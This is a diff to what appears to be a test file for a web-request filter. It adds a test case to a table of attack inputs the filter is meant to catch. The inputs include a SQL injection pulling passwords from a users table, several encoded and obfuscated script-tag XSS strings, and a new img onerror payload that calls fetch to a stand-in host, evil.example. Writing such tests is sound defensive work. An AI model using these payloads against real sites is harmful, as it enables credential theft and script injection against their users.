@@ -38,6 +38,8 @@ describe("the shield", () => {
       ["/guarded/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", undefined],
       ["/guarded/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", undefined],
       ["/guarded/x", JSON.stringify({ comment: "<img src=x onerror=alert(1)>" })],
+      // Long attributes before the handler: a bounded look-ahead would stop short of it.
+      ["/partly/x", JSON.stringify({ comment: `<img alt="${"a ".repeat(200)}" onerror=fetch('//evil.example')>` })],
       ["/guarded/x", JSON.stringify({ comment: "&#60;script&#62;alert(1)&#60;/script&#62;" })],
       ["/guarded/x", JSON.stringify({ comment: "\\u003cscript\\u003ealert(1)" })],
       ["/guarded/x", JSON.stringify({ name: "＜script＞alert(1)＜/script＞" })],
